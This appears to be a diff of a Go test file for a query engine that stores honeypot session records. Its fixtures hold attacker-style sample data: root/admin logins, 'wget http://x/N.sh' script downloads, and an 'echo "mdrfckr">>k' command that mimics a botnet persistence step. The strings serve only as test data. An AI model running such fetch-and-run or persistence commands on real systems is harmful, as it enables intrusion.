@@ -14,7 +14,9 @@ import (
 // zoneRecs are records laid out so that zones differ: kinds and
 // protocols come in runs longer than a 2 KiB block, so blocks — and,
 // sealed in slices, segments — hold one kind or protocol as often as
-// several, and some hold a protocol the masks do not name.
+// several, and some hold a protocol the masks do not name. Their
+// fragments vary too: escaped passwords and commands, two-command
+// sessions, downloads, timeouts.
 func zoneRecs(from, n int) []*session.Record {
 	recs := make([]*session.Record, 0, n)
 	for i := from; i < from+n; i++ {
@@ -25,10 +27,19 @@ func zoneRecs(from, n int) []*session.Record {
 			r.Logins = []session.LoginAttempt{{Username: "root", Password: "x"}}
 		case session.Intrusion:
 			r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
+			if i%6 == 0 {
+				r.Logins = append([]session.LoginAttempt{{Username: "admin", Password: "adm<in"}}, r.Logins...)
+			}
 		case session.CommandExec:
 			r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
 			r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh", i)}}
+			if i%3 == 0 {
+				r.Commands = append(r.Commands, session.Command{Raw: `echo "mdrfckr">>k`, Known: true})
+				r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Size: int64(i)}}
+			}
+			r.StateChanged = i%2 == 0
 		}
+		r.TimedOut = i%5 == 0
 		r.Protocol = [...]string{session.ProtoSSH, session.ProtoTelnet, session.ProtoSSH, "http"}[i/110%4]
 		recs = append(recs, r)
 	}
@@ -41,6 +52,8 @@ type zoned struct {
 	name string
 	z    zone
 	recs []*session.Record
+	seg  *segmentMeta // a v3 block's zone: its segment and index
+	bi   int
 }
 
 // openZoned builds a mixed store — the legacy fixture's v1 and v2
@@ -83,7 +96,7 @@ func openZoned(t *testing.T) (*Store, []zoned) {
 			recs = append(recs, r)
 		}
 		br.close()
-		out = append(out, zoned{seg.File, seg.zone(), recs})
+		out = append(out, zoned{name: seg.File, z: seg.zone(), recs: recs})
 
 		for _, by := range []Field{FieldKind, FieldProto} {
 			buckets, n := seg.buckets(by, seg.zone())
@@ -114,7 +127,7 @@ func openZoned(t *testing.T) (*Store, []zoned) {
 			if err := cs.readDir(bi, &d); err != nil {
 				t.Fatal(err)
 			}
-			out = append(out, zoned{fmt.Sprintf("%s block %d", seg.File, bi), d.zone(), rest[:bm.Count]})
+			out = append(out, zoned{name: fmt.Sprintf("%s block %d", seg.File, bi), z: d.zone(), recs: rest[:bm.Count], seg: seg, bi: bi})
 			rest = rest[bm.Count:]
 		}
 		cs.close()
@@ -125,7 +138,7 @@ func openZoned(t *testing.T) (*Store, []zoned) {
 // genZonePred draws a random predicate tree whose leaves are the ones a
 // zone can decide (start, month, day, kind, proto — every comparison,
 // including literals that begin no month or day) mixed with ones it
-// cannot (ip, login_ok, cmd).
+// cannot (ip and fragLeaves).
 func genZonePred(rng *rand.Rand, depth int) *Pred {
 	if depth > 0 && rng.Intn(3) > 0 {
 		switch rng.Intn(3) {
@@ -162,10 +175,40 @@ func genZonePred(rng *rand.Rand, depth int) *Pred {
 	case 7:
 		return Cmp(FieldIP, CmpEq, StringValue(fmt.Sprintf("203.0.0.%d", rng.Intn(250))))
 	}
+	leaves := fragLeaves()
+	return leaves[rng.Intn(len(leaves))]
+}
+
+// fragLeaves are leaves only a column fragment decides: each field the
+// kernels read, with equality and its negation, orderings on counts and
+// text, integer and float literals, and command patterns with and
+// without a necessary literal — one whose literal spans the newline
+// that joins two commands — matched and negated.
+func fragLeaves() []*Pred {
+	re := regexp.MustCompile
 	return []*Pred{
 		Cmp(FieldLoginOK, CmpEq, BoolValue(true)),
-		Match(FieldCmd, regexp.MustCompile("wget"), false),
-	}[rng.Intn(2)]
+		Cmp(FieldLoginOK, CmpNe, BoolValue(true)),
+		Cmp(FieldUser, CmpEq, StringValue("root")),
+		Cmp(FieldUser, CmpNe, StringValue("root")),
+		Cmp(FieldPassword, CmpEq, StringValue("adm<in")),
+		Match(FieldPassword, re("^adm"), false),
+		Cmp(FieldLogins, CmpGe, IntValue(2)),
+		Cmp(FieldLogins, CmpLt, FloatValue(0.5)),
+		Cmp(FieldCommands, CmpGt, IntValue(1)),
+		Cmp(FieldCommands, CmpEq, IntValue(0)),
+		Cmp(FieldDownloads, CmpNe, IntValue(0)),
+		Cmp(FieldStateChanged, CmpEq, BoolValue(false)),
+		Cmp(FieldTimedOut, CmpEq, BoolValue(true)),
+		Match(FieldCmd, re("wget"), false),
+		Match(FieldCmd, re("mdrfckr"), true),
+		Match(FieldCmd, re(`"mdr`), false),
+		Match(FieldCmd, re(`\d{3}`), false),
+		Match(FieldCmd, re(`sh\necho`), false),
+		Match(FieldCmd, re(`sh\necho`), true),
+		Cmp(FieldCmd, CmpEq, StringValue("")),
+		Cmp(FieldCmd, CmpGe, StringValue("wget http://x/5")),
+	}
 }
 
 // TestTriSoundOverEveryZone: whatever a zone's verdict on a predicate,
@@ -203,6 +246,95 @@ func TestTriSoundOverEveryZone(t *testing.T) {
 	}
 	t.Logf("verdicts over %d zones: %d false, %d true, %d unknown",
 		len(zones), verdicts[triFalse], verdicts[triTrue], verdicts[triUnknown])
+}
+
+// blockBits evaluates a compiled predicate over block bi of a v3
+// segment the way a scan does — sidecars, the raw stripe and the
+// predicate's columns loaded — and returns the bitmap pair.
+func blockBits(t testing.TB, cs *colSeg, bi int, prog *vecProg) (lo, hi []uint64) {
+	t.Helper()
+	var d colDir
+	if err := cs.readDir(bi, &d); err != nil {
+		t.Fatal(err)
+	}
+	if err := cs.loadSidecars(&d, nil); err != nil {
+		t.Fatal(err)
+	}
+	if err := cs.loadRaw(&d, nil); err != nil {
+		t.Fatal(err)
+	}
+	for c := 0; c < session.NumColumns; c++ {
+		if prog.cols.Has(c) {
+			if err := cs.loadCol(&d, c, nil); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	var arena []uint64
+	a := bmAlloc{arena: &arena}
+	words := bmWords(d.rows)
+	lo, hi = a.get(words), a.get(words)
+	prog.root.eval(&vecEnv{sc: cs.sc, rows: d.rows, tnOK: len(cs.sc.tnanos) == d.rows}, &a, lo, hi)
+	return lo, hi
+}
+
+// TestBitmapSoundOverEveryBlock: the column bitmap of every v3 block
+// agrees with the row Filter on every row — lo only where the record
+// matches, hi wherever it does — and a fragment leaf alone decides
+// every canonical row exactly.
+func TestBitmapSoundOverEveryBlock(t *testing.T) {
+	s, zones := openZoned(t)
+	rng := rand.New(rand.NewSource(27))
+	var plans []*plan
+	for _, pred := range fragLeaves() {
+		p, err := lower(&Query{Where: pred})
+		if err != nil {
+			t.Fatal(err)
+		}
+		plans = append(plans, p)
+	}
+	leaves := len(plans)
+	for len(plans) < 400 {
+		p, err := lower(&Query{Where: genZonePred(rng, 3)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if p.prog != nil {
+			plans = append(plans, p)
+		}
+	}
+	blocks, decided, rows := 0, 0, 0
+	for _, zd := range zones {
+		if zd.seg == nil {
+			continue
+		}
+		blocks++
+		cs, err := s.openColSeg(zd.seg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for pi, p := range plans {
+			lo, hi := blockBits(t, cs, zd.bi, p.prog)
+			for j, r := range zd.recs {
+				truth := p.filter(r)
+				if bmHas(lo, j) && !truth || truth && !bmHas(hi, j) {
+					t.Fatalf("%s row %d, predicate %d: lo %v hi %v, Filter %v", zd.name, j, pi, bmHas(lo, j), bmHas(hi, j), truth)
+				}
+				if pi < leaves && bmHas(lo, j) != bmHas(hi, j) {
+					t.Fatalf("%s row %d: fragment leaf %d left a canonical row unknown", zd.name, j, pi)
+				}
+				rows++
+				if bmHas(lo, j) == bmHas(hi, j) {
+					decided++
+				}
+			}
+		}
+		cs.close()
+	}
+	if blocks == 0 {
+		t.Fatal("no v3 blocks")
+	}
+	t.Logf("%d blocks × %d predicates: %d of %d row verdicts exact", blocks, len(plans), decided, rows)
 }
 
 // TestMonthUnderOrPrunesBlocks: a month leaf is a start-time interval
